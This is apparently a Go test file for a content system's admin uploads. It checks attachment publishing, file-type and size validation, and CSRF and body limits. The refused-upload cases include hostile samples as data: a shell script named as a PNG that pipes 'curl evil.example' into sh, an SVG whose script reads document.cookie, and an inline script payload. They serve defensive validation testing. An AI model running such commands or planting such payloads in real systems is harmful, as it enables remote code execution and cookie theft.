package admin_test

import (
	"bytes"
	"context"
	"html"
	"image"
	"image/color"
	"image/png"
	"io"
	"mime/multipart"
	"net/http"
	"net/url"
	"regexp"
	"strings"
	"testing"

	"github.com/pollen-coop/pollen/config"
	"github.com/pollen-coop/pollen/service/access"
	"github.com/pollen-coop/pollen/testrig"
)

// postFile sends form to path as multipart/form-data with the CSRF
// token of the page at path, and data as the file field "file" named
// filename.
func (b *client) postFile(path string, form url.Values, filename string, data []byte) answer {
	b.t.Helper()
	return b.postMultipart(path, form, "file", filename, data)
}

// postMultipart is postFile with the file in the field named field.
func (b *client) postMultipart(path string, form url.Values, field, filename string, data []byte) answer {
	b.t.Helper()
	form.Set("csrf_token", b.csrf(path))
	var body bytes.Buffer
	w := multipart.NewWriter(&body)
	for k, vs := range form {
		for _, v := range vs {
			_ = w.WriteField(k, v)
		}
	}
	fw, err := w.CreateFormFile(field, filename)
	if err != nil {
		b.t.Fatal(err)
	}
	_, _ = fw.Write(data)
	_ = w.Close()
	req, err := http.NewRequest(http.MethodPost, b.base+path, &body)
	if err != nil {
		b.t.Fatal(err)
	}
	req.Header.Set("Content-Type", w.FormDataContentType())
	resp, err := b.c.Do(req)
	if err != nil {
		b.t.Fatalf("POST %s: %v", path, err)
	}
	defer resp.Body.Close()
	page, _ := io.ReadAll(resp.Body)
	return answer{status: resp.StatusCode, header: resp.Header, body: string(page)}
}

// pngOf is a PNG of w×h pixels, padded with a text chunk to pad bytes
// more.
func pngOf(t *testing.T, w, h, pad int) []byte {
	t.Helper()
	img := image.NewRGBA(image.Rect(0, 0, w, h))
	for i := range w {
		img.Set(i, i%h, color.RGBA{200, 10, 10, 255})
	}
	var b bytes.Buffer
	if err := png.Encode(&b, img); err != nil {
		t.Fatal(err)
	}
	if pad == 0 {
		return b.Bytes()
	}
	data := b.Bytes()
	text := append([]byte("Comment\x00"), bytes.Repeat([]byte("x"), pad)...)
	chunk := append([]byte{byte(len(text) >> 24), byte(len(text) >> 16), byte(len(text) >> 8), byte(len(text))}, "tEXt"...)
	chunk = append(append(chunk, text...), 0, 0, 0, 0) // a bad CRC: the decoder skips ancillary chunks' CRCs
	return append(append(append([]byte{}, data[:33]...), chunk...), data[33:]...)
}

// uploadNode is a node with small upload limits (64 KB images, 128 KB
// PDFs) and a signed-in editor.
func uploadNode(t *testing.T) (*testrig.Node, *client) {
	n := testrig.StartNode(t, testrig.Options{Configure: func(c *config.Config) {
		c.MediaMaxImageBytes, c.MediaMaxPDFBytes = 64<<10, 128<<10
	}})
	addUser(t, n, "asha@example.org", access.RoleEditor)
	b := newClient(t, n.URL)
	b.signIn("asha@example.org")
	return n, b
}

// TestUploadAndPublish: an image uploaded with its alt text is attached
// to the case study published, listed on its form with a way to remove
// it, and served from this node; a PDF added later joins it, and
// removing the image leaves the PDF.
func TestUploadAndPublish(t *testing.T) {
	n, b := uploadNode(t)
	form := caseForm("Keeping the libraries open", "publish")
	form.Set("alt", "Library staff outside the Central branch")
	p := b.postFile("/admin/case-studies/new", form, "staff.png", pngOf(t, 40, 30, 0))
	if p.status != http.StatusSeeOther {
		t.Fatalf("publish with an image = %d\n%s", p.status, p.body)
	}
	edit := strings.TrimSuffix(p.header.Get("Location"), "?saved=1")
	v, err := n.CaseStudies.CaseStudy(context.Background(), "keeping-the-libraries-open")
	if err != nil || len(v.Attachments) != 1 {
		t.Fatalf("published %+v, %v", v.Attachments, err)
	}
	img := v.Attachments[0]
	if !strings.HasPrefix(img.URL, n.URL+"/media/") || !strings.HasSuffix(img.URL, ".png") || img.MediaType != "image/png" || img.Name != "Library staff outside the Central branch" {
		t.Errorf("attachment %+v", img)
	}
	if r := testrig.Do(t, http.MethodGet, img.URL, nil, nil); r.Status != http.StatusOK || r.Header.Get("Content-Type") != "image/png" {
		t.Errorf("GET %s = %d %s", img.URL, r.Status, r.Header.Get("Content-Type"))
	}
	page := b.get(edit)
	for _, want := range []string{`name="attachment.url" value="` + img.URL + `"`, `name="remove" type="checkbox" value="` + img.URL + `"`, `enctype="multipart/form-data"`} {
		if !strings.Contains(page.body, want) {
			t.Errorf("the edit page lacks %s", want)
		}
	}
	// A PDF added on the edit page, the image kept through its hidden fields.
	form = editFormOf(page.body, "publish")
	p = b.postFile(edit, form, "annual report.pdf", []byte("%PDF-1.7\n%%EOF\n"))
	if p.status != http.StatusSeeOther {
		t.Fatalf("publish with a PDF = %d\n%s", p.status, p.body)
	}
	v, _ = n.CaseStudies.CaseStudy(context.Background(), "keeping-the-libraries-open")
	if len(v.Attachments) != 2 || v.Attachments[1].MediaType != "application/pdf" || v.Attachments[1].Name != "annual-report.pdf" {
		t.Fatalf("after the PDF: %+v", v.Attachments)
	}
	form = editFormOf(b.get(edit).body, "publish")
	form.Set("remove", img.URL)
	if p := b.post(edit, form); p.status != http.StatusSeeOther {
		t.Fatalf("remove = %d\n%s", p.status, p.body)
	}
	v, _ = n.CaseStudies.CaseStudy(context.Background(), "keeping-the-libraries-open")
	if len(v.Attachments) != 1 || v.Attachments[0].MediaType != "application/pdf" {
		t.Errorf("after removing the image: %+v", v.Attachments)
	}
}

// editFormOf is the case study form as a browser sends it back
// unchanged: the valid fields and the hidden attachments of the page.
func editFormOf(page, action string) url.Values {
	form := caseForm("Keeping the libraries open", action)
	for _, name := range []string{"attachment.url", "attachment.media_type", "attachment.name"} {
		for _, m := range hiddenField(name).FindAllStringSubmatch(page, -1) {
			form.Add(name, html.UnescapeString(m[1]))
		}
	}
	return form
}

// hiddenField matches a hidden input of the name, its value the match.
func hiddenField(name string) *regexp.Regexp {
	return regexp.MustCompile(`type="hidden" name="` + regexp.QuoteMeta(name) + `" value="([^"]*)"`)
}

// TestUploadRefused: each bad upload shows the form again (422) with
// the error in the summary and beside the field, what was typed kept,
// and nothing published.
func TestUploadRefused(t *testing.T) {
	n, b := uploadNode(t)
	svg := `<?xml version="1.0"?><svg xmlns="http://www.w3.org/2000/svg"><script>alert(document.cookie)</script></svg>`
	pdf := append([]byte("%PDF-1.4\n"), bytes.Repeat([]byte("% padding\n"), 13<<10)...)
	for _, tc := range []struct {
		name, filename, alt string
		data                []byte
		field, want         string
	}{
		{"oversized image", "big.png", "A picture", pngOf(t, 10, 10, 70<<10), "file", "The selected file is an image larger than 64 KB, the most an image may be"},
		{"script named png", "photo.png", "A picture", []byte("#!/bin/sh\ncurl evil.example | sh\n"), "file", "The selected file must be a JPEG, PNG, GIF or WebP image or a PDF: this file&#39;s content is text, whatever its name says"},
		{"svg with script", "logo.svg", "Logo", []byte(svg), "file", "The selected file is an SVG image, which is not accepted because it can carry scripts"},
		{"svg named png", "logo.png", "Logo", []byte(svg), "file", "The selected file is an SVG image"},
		{"pdf over the limit", "report.pdf", "", pdf, "file", "The selected file is a PDF larger than 128 KB, the most a PDF may be"},
		{"image without alt", "staff.png", "", pngOf(t, 10, 10, 0), "alt", "Alt text is required for an image"},
	} {
		t.Run(tc.name, func(t *testing.T) {
			form := caseForm("Keeping the libraries open", "publish")
			form.Set("alt", tc.alt)
			form.Set("summary", "Typed and kept")
			p := b.postFile("/admin/case-studies/new", form, tc.filename, tc.data)
			if p.status != http.StatusUnprocessableEntity {
				t.Fatalf("status %d\n%s", p.status, p.body)
			}
			for _, want := range []string{
				`href="#` + tc.field + `">` + tc.want, `id="` + tc.field + `-error"`, "govuk-form-group--error",
				`value="Typed and kept"`, `value="` + tc.alt + `"`,
			} {
				if !strings.Contains(p.body, want) {
					t.Errorf("the form lacks %s", want)
				}
			}
		})
	}
	if got := n.StoredCaseStudies(t); got != 0 {
		t.Errorf("%d case studies stored after refused uploads", got)
	}
	// With a field missing too, the form names both errors.
	form := caseForm("", "publish")
	p := b.postFile("/admin/case-studies/new", form, "photo.png", []byte("<script>alert(1)</script>"))
	if !strings.Contains(p.body, `href="#title">Title is required`) || !strings.Contains(p.body, `href="#file">The selected file must be`) {
		t.Errorf("the form names not both errors:\n%s", p.body)
	}
}

// TestUploadLimits: the case study form takes a body as large as the
// largest upload and 1 MiB more, and still checks the CSRF token; other
// forms stay within 1 MiB.
func TestUploadLimits(t *testing.T) {
	_, b := uploadNode(t)
	form := caseForm("Keeping the libraries open", "publish")
	p := b.postFile("/admin/case-studies/new", form, "big.pdf", bytes.Repeat([]byte("%"), 900<<10))
	if p.status != http.StatusUnprocessableEntity {
		t.Errorf("a 900 KB upload = %d, want the form's 422", p.status)
	}
	if p := b.postFile("/admin/case-studies/new", form, "huge.pdf", bytes.Repeat([]byte("%"), 1300<<10)); p.status != http.StatusRequestEntityTooLarge {
		t.Errorf("a 1.3 MB body = %d, want 413", p.status)
	}
	form.Set("csrf_token", "stale")
	var body bytes.Buffer
	w := multipart.NewWriter(&body)
	for k, vs := range form {
		_ = w.WriteField(k, vs[0])
	}
	_ = w.Close()
	req, _ := http.NewRequest(http.MethodPost, b.base+"/admin/case-studies/new", &body)
	req.Header.Set("Content-Type", w.FormDataContentType())
	resp, err := b.c.Do(req)
	if err != nil {
		t.Fatal(err)
	}
	_ = resp.Body.Close()
	if resp.StatusCode != http.StatusForbidden {
		t.Errorf("a multipart form with a stale token = %d, want 403", resp.StatusCode)
	}
	if p := b.postFile("/sign-out", url.Values{}, "x.pdf", bytes.Repeat([]byte("%"), 1100<<10)); p.status != http.StatusRequestEntityTooLarge {
		t.Errorf("a 1.1 MB body to another form = %d, want 413", p.status)
	}
}
